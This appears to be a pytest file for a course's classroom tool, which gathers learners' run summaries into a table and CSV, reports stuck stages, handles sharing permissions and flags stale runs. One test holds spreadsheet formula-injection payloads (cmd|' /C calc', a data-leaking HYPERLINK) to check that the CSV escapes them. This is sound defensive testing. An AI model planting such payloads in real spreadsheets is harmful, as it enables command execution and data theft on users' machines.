from __future__ import annotations

import csv
import json
import os
import shutil
import stat
from pathlib import Path

import nbformat
import pytest

from phi3course.paths import notebooks_dir
from phi3course.rundir import RunDir
from phi3course.tools import classroom

COMPLETE = {
    "profile": "local",
    "model": "smollm2-135m-instruct",
    "stages": {name: {"seconds": 60.0, "ok": True} for name in ["00_setup", "01_data", "02_fine_tune", "99_cleanup"]},
    "train": {"seconds": 107.1, "tokens": 25047, "tokens_per_second": 233.8, "final_loss": 0.0021},
    "eval": {"base": {"exact_match": 0.0}, "tuned": {"exact_match": 0.9833}, "flow": {"tuned": 0.95}},
    "endpoint": {"kind": "local", "scoring_uri": "http://127.0.0.1:5001/score", "p50_ms": 1105.4},
    "chat": {"question": "Who leads it?", "answer": "Dr. Oskar Oakhurst leads the Quillmere Institute. " * 3},
}
STUCK = {
    "profile": "local",
    "model": "smollm2-135m-instruct",
    "stages": {
        "00_setup": {"seconds": 2.0, "ok": True},
        "01_data": {"seconds": 3.0, "ok": True},
        "02_fine_tune": {"seconds": 30.0, "ok": False, "cell": 7, "error": "MemoryError: out of memory"},
    },
    "train": None,
    "eval": None,
}


def write(path: Path, content: str | dict) -> Path:
    path.mkdir(parents=True, exist_ok=True)
    text = content if isinstance(content, str) else json.dumps(content)
    (path / "summary.json").write_text(text)
    return path


def test_collect_makes_one_row_per_learner_and_says_where_each_is_stuck(tmp_path: Path) -> None:
    homes = tmp_path / "home"
    write(homes / "ana" / "phi3-course" / "runs" / "local", COMPLETE)
    write(homes / "ben" / "phi3-course" / "runs" / "local", STUCK)
    write(homes / "cleo" / "phi3-course" / "runs" / "local", "{not json")
    frame = classroom.collect([homes], expected_notebooks=5)
    assert list(frame.index) == ["ana", "ben", "cleo"]
    ana, ben, cleo = (frame.loc[name] for name in ["ana", "ben", "cleo"])
    assert ana["notebooks ok"] == "3/5" and ana["stuck at"] == "" and ana["minutes"] == 4.0
    assert ana["held-out base"] == "0.0 %" and ana["held-out tuned"] == "98.3 %" and ana["via flow"] == "95.0 %"
    assert ana["train tokens/s"] == 233.8 and ana["endpoint p50 ms"] == 1105.4
    assert len(ana["chat answer"]) == 60 and ana["chat answer"].endswith("…")
    assert ben["notebooks ok"] == "2/5" and ben["stuck at"] == "02_fine_tune cell 7: MemoryError: out of memory"
    assert ben["held-out tuned"] == "" and ben["train tokens/s"] == ""
    assert cleo["stuck at"].startswith("unreadable") and "summary.json" in cleo["stuck at"]


def test_collect_accepts_run_dirs_and_summary_files_and_names_missing_paths(tmp_path: Path) -> None:
    one = write(tmp_path / "runs" / "class" / "ana", COMPLETE)
    two = write(tmp_path / "runs" / "class" / "ben", STUCK)
    frame = classroom.collect([one, two / "summary.json", one])  # the same run twice counts once
    assert list(frame.index) == ["ana", "ben"]
    assert classroom.learner_names([one / "summary.json"]) == ["ana"]
    with pytest.raises(FileNotFoundError, match="does not exist"):
        classroom.collect([tmp_path / "nowhere"])
    (tmp_path / "empty").mkdir()
    with pytest.raises(FileNotFoundError, match=r"no summary\.json"):
        classroom.collect([tmp_path / "empty"])


def test_collect_command_prints_the_table_and_writes_csv(tmp_path: Path, capsys) -> None:
    write(tmp_path / "class" / "ana", COMPLETE)
    write(tmp_path / "class" / "ben", STUCK)
    csv = tmp_path / "class.csv"
    assert classroom.main(["collect", str(tmp_path / "class"), "--csv", str(csv)]) == 0
    out = capsys.readouterr().out
    assert "ana" in out and "02_fine_tune cell 7" in out and "98.3 %" in out
    assert csv.read_text().splitlines()[0].startswith("learner,profile,model,notebooks ok")
    assert classroom.main(["collect", str(tmp_path / "missing")]) == 2


def test_run_class_refuses_names_that_are_not_folder_names(tmp_path: Path) -> None:
    with pytest.raises(ValueError, match="letters, digits"):
        classroom.run_class(["ana", "../ben"], out=tmp_path)
    with pytest.raises(ValueError, match="Unknown profile"):
        classroom.run_class(["ana"], profile="nope", out=tmp_path)


def test_run_class_runs_each_learners_notebooks_and_one_failure_does_not_stop_the_rest(tmp_path: Path) -> None:
    """Two learners' own notebook copies, smoke profile, 00→01: ben broke his 01, ana's run still completes."""
    root = tmp_path / "submissions"
    for learner in ["ana", "ben"]:
        (root / learner).mkdir(parents=True)
        for name in ["00_setup", "01_data"]:
            shutil.copy(notebooks_dir() / f"{name}.ipynb", root / learner)
    broken = nbformat.read(root / "ben" / "01_data.ipynb", as_version=4)
    code = [i for i, c in enumerate(broken.cells) if c.cell_type == "code"]
    index = code[1]  # the first cell after the parameters
    broken.cells[index].source += "\nraise RuntimeError('ben edited this cell')"
    nbformat.write(broken, root / "ben" / "01_data.ipynb")

    frame = classroom.run_class(["ana", "ben"], "smoke", out=tmp_path / "class", notebooks_root=root, stop="01")
    assert frame.loc["ana", "notebooks ok"] == "2/2" and frame.loc["ana", "stuck at"] == ""
    assert frame.loc["ben", "notebooks ok"] == "1/2"
    assert frame.loc["ben", "stuck at"] == f"01_data cell {index}: RuntimeError: ben edited this cell"
    assert (tmp_path / "class" / "ana" / "01_data.ipynb").is_file()
    assert json.loads((tmp_path / "class" / "ana" / "summary.json").read_text())["data"]["train_rows"] > 0


# --- runs of other accounts, spreadsheets, stale summaries ---------------------------------------------------------
def _a_group() -> tuple[str, int]:
    """A group this process may give its files to, other than its own when it can (to see chgrp happen)."""
    import grp

    mine = os.getegid()
    if os.geteuid() == 0:
        candidates = [group.gr_gid for group in grp.getgrall() if group.gr_gid != mine]
    else:
        candidates = [gid for gid in os.getgroups() if gid != mine]
    gid = candidates[0] if candidates else mine
    return grp.getgrgid(gid).gr_name, gid


def test_course_share_group_makes_only_the_summary_group_readable(tmp_path, monkeypatch: pytest.MonkeyPatch) -> None:
    run = RunDir(tmp_path / "runs" / "local")
    run.update_summary(profile="local")
    assert stat.S_IMODE(run.summary_path.stat().st_mode) == 0o600, "without a group, the summary stays private"
    name, gid = _a_group()
    monkeypatch.setenv("COURSE_SHARE_GROUP", name)
    run.write_secret("endpoint-key", "s3cret")
    run.remember(endpoint="local")
    run.update_summary(started="2025-05-01T09:00:00+00:00")
    run.record_stage("00_setup", 1.0, True)  # each write replaces the file: each keeps the group
    info = run.summary_path.stat()
    assert stat.S_IMODE(info.st_mode) == 0o640 and info.st_gid == gid
    assert stat.S_IMODE(run.secret_path("endpoint-key").stat().st_mode) == 0o600
    assert stat.S_IMODE(run.state_path.stat().st_mode) == 0o600
    assert classroom.collect([run.path], expected_notebooks=5).loc["local", "notebooks ok"] == "1/5"


def test_an_unknown_share_group_warns_and_keeps_the_summary_private(tmp_path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("COURSE_SHARE_GROUP", "no-such-group-here")
    run = RunDir(tmp_path)
    with pytest.warns(UserWarning, match=r"COURSE_SHARE_GROUP='no-such-group-here'.*no such group\). Set it to a"):
        run.update_summary(profile="local")
    assert stat.S_IMODE(run.summary_path.stat().st_mode) == 0o600 and run.summary["profile"] == "local"


def test_an_unreadable_summary_says_how_learners_share_it(tmp_path, monkeypatch: pytest.MonkeyPatch) -> None:
    write(tmp_path / "home" / "ana" / "runs" / "local", COMPLETE)
    write(tmp_path / "home" / "ben" / "runs" / "local", STUCK)
    real = Path.read_text

    def as_another_user(path: Path, *args, **kwargs) -> str:  # the tests may run as root, who reads everything
        if "ben" in path.parts:
            raise PermissionError(13, "Permission denied", str(path))
        return real(path, *args, **kwargs)

    monkeypatch.setattr(Path, "read_text", as_another_user)
    frame = classroom.collect([tmp_path / "home"], expected_notebooks=5)
    assert frame.loc["ana", "stuck at"] == ""
    assert (
        frame.loc["ben", "stuck at"].startswith("unreadable ") and "Permission denied" in frame.loc["ben", "stuck at"]
    )
    assert frame.loc["ben", "stuck at"].endswith(
        "summary.json' — the learner's run is not readable by you: have them set "
        "COURSE_SHARE_GROUP=<a group you are in> before they run the course (docs/workshop.md)"
    )


def test_the_csv_escapes_learner_text_a_spreadsheet_would_run(tmp_path) -> None:
    hostile = {
        **COMPLETE,
        "profile": "+cmd|' /C calc'!A0",
        "model": "@SUM(1+1)*cmd|' /C calc'!A0",
        "stages": {"=1+1": {"seconds": 1.0, "ok": False, "error": "x"}},
        "train": {"tokens_per_second": "-2+3", "final_loss": -0.5},
        "chat": {"answer": '=HYPERLINK("http://example.invalid/?"&A1,"click")'},
        "endpoint": {"p50_ms": "\tx"},
        "eval": {},
    }
    write(tmp_path / "class" / "=ana", hostile)
    write(tmp_path / "class" / "ben", {**COMPLETE, "chat": {"answer": "\r=1+1"}})
    out = tmp_path / "class.csv"
    assert classroom.main(["collect", str(tmp_path / "class"), "--csv", str(out)]) == 0
    with out.open(newline="") as handle:
        rows = {row["learner"]: row for row in csv.DictReader(handle)}
    assert set(rows) == {"'=ana", "ben"}
    ana = rows["'=ana"]
    assert ana["profile"] == "'+cmd|' /C calc'!A0" and ana["model"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert ana["stuck at"] == "'=1+1: x" and ana["train tokens/s"] == "'-2+3" and ana["endpoint p50 ms"] == "'\tx"
    assert ana["chat answer"].startswith("'=HYPERLINK(")
    assert ana["final loss"] == "-0.5", "a number stays a number"
    assert rows["ben"]["chat answer"] == "'\r=1+1" and rows["ben"]["model"] == "smollm2-135m-instruct"
    assert classroom.collect([tmp_path / "class"]).loc["=ana", "profile"] == hostile["profile"], "the table as is"


def test_a_summary_older_than_the_class_run_is_marked_stale(tmp_path, capsys) -> None:
    """ben's copy has no notebooks, so the class run skips him; his summary from last week must not count."""
    root = tmp_path / "submissions"
    (root / "ben").mkdir(parents=True)
    write(tmp_path / "class" / "ben", {**COMPLETE, "started": "2020-01-06T09:00:00+00:00"})
    frame = classroom.run_class(["ben"], "smoke", out=tmp_path / "class", notebooks_root=root, stop="01")
    ben = frame.loc["ben"]
    assert ben["stuck at"].startswith("stale: this summary is from a run started 2020-01-06T09:00:00+00:00, before ")
    assert ben["stuck at"].endswith("the newest run did not write one (skipped, or failed before it began)")
    assert ben["notebooks ok"] == "0/2" and ben["held-out tuned"] == "" and ben["chat answer"] == ""
    assert "no numbered notebooks" in capsys.readouterr().err


def test_collect_since_marks_older_runs_stale_and_keeps_newer_ones(tmp_path, capsys) -> None:
    write(tmp_path / "class" / "ana", {**COMPLETE, "started": "2025-05-01T09:30:00+00:00"})
    write(tmp_path / "class" / "ben", {**COMPLETE, "started": "2025-04-24T09:30:00+00:00"})
    write(tmp_path / "class" / "cleo", COMPLETE)  # no start time: cannot be shown to be current
    frame = classroom.collect([tmp_path / "class"], expected_notebooks=5, since="2025-05-01T09:00:00+00:00")
    assert frame.loc["ana", "stuck at"] == "" and frame.loc["ana", "held-out tuned"] == "98.3 %"
    assert frame.loc["ben", "stuck at"].startswith("stale: this summary is from a run started 2025-04-24T09:30")
    assert frame.loc["cleo", "stuck at"].startswith("stale: this summary is from a run with no start time")
    assert frame.loc["ben", "held-out tuned"] == frame.loc["cleo", "held-out tuned"] == ""
    assert classroom.collect([tmp_path / "class"], expected_notebooks=5).loc["ben", "stuck at"] == ""
    assert classroom.main(["collect", str(tmp_path / "class"), "--since", "2025-05-01T09:00"]) == 0
    assert "stale" in capsys.readouterr().out
    assert classroom.main(["collect", str(tmp_path / "class"), "--since", "last monday"]) == 2
    assert "--since: 'last monday' is not a time; write it as 2025-05-01T09:00" in capsys.readouterr().err
